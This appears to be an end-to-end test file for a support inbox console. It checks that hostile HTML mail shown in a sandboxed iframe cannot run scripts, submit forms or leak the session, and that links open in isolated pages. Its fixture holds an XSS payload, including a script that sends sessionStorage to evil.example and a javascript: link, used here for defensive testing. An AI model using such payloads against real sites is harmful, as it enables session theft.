import { expect, test } from 'vitest';
import type { MessageDocument } from '#contracts/api/tickets.ts';
import { aNumber } from '#test/e2e/support/inbox.ts';
import { inBrowser, rowsOf, useConsole } from '../support/console.ts';

const hostile = `
  <p style="color: rgb(1, 2, 3)">Dear support</p>
  <script>top.location = 'https://evil.example/?' + JSON.stringify(top.sessionStorage)</script>
  <img src="x" onerror="parent.document.title = 'owned'">
  <form action="https://evil.example/"><button>Claim</button></form>
  <a href="javascript:alert(1)">free</a>
  <a href="https://shop.example/ok">order</a>
  <iframe src="https://evil.example/"></iframe>`;

inBrowser('a hostile mail', () => {
  const console_ = useConsole();

  test('T9: does nothing in the console, even one that no sanitizer has seen: no script, no form, no way to the token', async () => {
    // Chromium says what it has refused to do.
    console_.expectComplaint(/sandboxed|Content Security Policy|ERR_|Failed to load|unique origin/i);
    const from = aNumber();
    await console_.inbox.sms({ from, text: 'as text' });
    const page = await console_.visit({ as: 'Sam' });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const tampered = (message: MessageDocument): MessageDocument => ({ ...message, html: hostile });
    await page.route('**/live?*', async (route) => {
      const response = await route.fetch();
      if (response.status() !== 200) return route.fulfill({ response });
      const body = await response.json();
      if (body.open) body.open.messages = body.open.messages.map(tampered);
      await route.fulfill({ response, json: body });
    });
    await rowsOf(page).filter({ hasText: from }).click();
    await page.getByRole('button', { name: 'Show original' }).first().click();
    const mail = page.frameLocator('iframe');
    await mail.getByText('Dear support').waitFor();
    expect(await mail.getByText('Dear support').evaluate((p) => getComputedStyle(p).color)).toBe(
      'rgb(1, 2, 3)',
    );
    const flags = (await page.locator('iframe').getAttribute('sandbox'))?.split(' ');
    expect(flags).toEqual(['allow-popups', 'allow-popups-to-escape-sandbox']);
    await mail.getByRole('button', { name: 'Claim' }).click();
    await mail.getByText('free').click();
    await page.waitForTimeout(500);
    expect(await page.title()).toMatch(/Inbox · Rondo$/);
    expect(new URL(page.url()).origin).toBe(console_.inbox.url);
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
  });

  test('a link in a mail opens a page of its own, which can’t reach the console', async () => {
    const from = aNumber();
    await console_.inbox.sms({ from, text: 'See https://shop.example/ok, please' });
    const page = await console_.visit({ as: 'Sam' });
    await page
      .context()
      .route('https://shop.example/**', (route) => route.fulfill({ body: 'shop', contentType: 'text/html' }));
    await rowsOf(page).filter({ hasText: from }).click();
    const [opened] = await Promise.all([
      page.context().waitForEvent('page'),
      page.getByRole('link', { name: 'https://shop.example/ok', exact: true }).click(),
    ]);
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  });
});
